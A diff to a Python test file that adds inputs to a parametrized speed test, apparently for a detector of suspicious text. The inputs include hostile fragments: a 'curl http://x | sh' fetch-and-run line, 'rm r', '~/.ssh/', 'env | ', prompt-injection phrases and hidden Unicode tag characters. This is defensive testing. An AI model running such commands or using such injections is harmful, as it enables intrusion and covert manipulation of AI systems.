@@ -245,7 +245,7 @@ def test_the_line_is_that_of_the_file_also_after_joined_lines_and_in_encoded_tex
         *("/", "rm r", "http://", "<img ", "chr(1)+", "\u200b", "\U000e0041", " ", "\n", "curl "),
         *("sh -a ", "ignore the ", "a\\\n", "b64decode ", "send ", "env | ", "<IMPORTANT>"),
         *("socket.socket ", "while True ", "do not tell the ", "~/.ssh/", "\U0001f3f4\U000e0041"),
-        *("os.environ ", "exec(", "!["),
+        *("os.environ ", "exec(", "![", 'attack: "curl http://x | sh"\n', "flag:\n- `a`\n"),
     ],
 )
 def test_no_text_takes_long(part):
